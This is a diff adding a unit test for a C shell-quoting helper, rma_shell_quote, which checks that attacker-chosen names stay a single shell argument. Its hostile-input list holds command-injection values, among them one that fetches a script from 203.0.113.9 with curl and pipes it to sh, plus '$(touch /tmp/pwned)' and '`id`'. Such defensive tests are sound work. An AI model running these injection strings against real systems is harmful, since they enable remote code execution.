@@ -1,6 +1,7 @@
-/* Unit tests of common/rma-util.c: UUIDs, sizes, names. */
+/* Unit tests of common/rma-util.c: UUIDs, sizes, names, shell quoting. */
 #include <errno.h>
 #include <glib.h>
+#include <string.h>
 
 #include "rma-util.h"
 
@@ -55,10 +56,46 @@ static void test_names(void) {
         g_assert_true(rma_name_is_valid(longname));
 }
 
+/* What sh makes of QUOTED: "N:FIRST", the number of words and the first. */
+static char *sh_words(const char *quoted) {
+        g_autofree char *script = g_strdup_printf("set -- %s; printf '%%s:%%s' \"$#\" \"$1\"", quoted);
+        const char *argv[] = { "/bin/sh", "-c", script, NULL };
+        char *env[] = { "PATH=/nonexistent", NULL };
+        char *out = NULL;
+        gint status;
+
+        g_assert_true(g_spawn_sync(NULL, (char **) argv, env, G_SPAWN_DEFAULT, NULL, NULL, &out, NULL, &status, NULL));
+        g_assert_true(g_spawn_check_wait_status(status, NULL));
+        return out;
+}
+
+/* A name an attacker chose, pasted from a message into a shell, is one argument. */
+static void test_shell_quote(void) {
+        static const char *const hostile[] = {
+                "rma.small;curl${IFS}-s${IFS}http://203.0.113.9/x|sh", "it's", "$(touch /tmp/pwned)", "`id`",
+                "a b", "x&&y", "new\nline", "*", "~root", "'", "''", "\\", "\"", "#c", "a\tb", "dom\xc3\xbc",
+        };
+        struct { const char *in, *out; } plain[] = {
+                { "/run/rma-broker", "/run/rma-broker" }, { "rma.small", "rma.small" },
+                { "", "''" }, { "a b", "'a b'" }, { "it's", "'it'\\''s'" },
+        };
+
+        for (size_t i = 0; i < G_N_ELEMENTS(plain); i++) {
+                g_autofree char *q = rma_shell_quote(plain[i].in);
+                g_assert_cmpstr(q, ==, plain[i].out);
+        }
+        for (size_t i = 0; i < G_N_ELEMENTS(hostile); i++) {
+                g_autofree char *q = rma_shell_quote(hostile[i]);
+                g_autofree char *words = sh_words(q), *want = g_strconcat("1:", hostile[i], NULL);
+                g_assert_cmpstr(words, ==, want);
+        }
+}
+
 int main(int argc, char *argv[]) {
         g_test_init(&argc, &argv, NULL);
         g_test_add_func("/util/uuid", test_uuid);
         g_test_add_func("/util/size", test_size);
         g_test_add_func("/util/names", test_names);
+        g_test_add_func("/util/shell-quote", test_shell_quote);
         return g_test_run();
 }
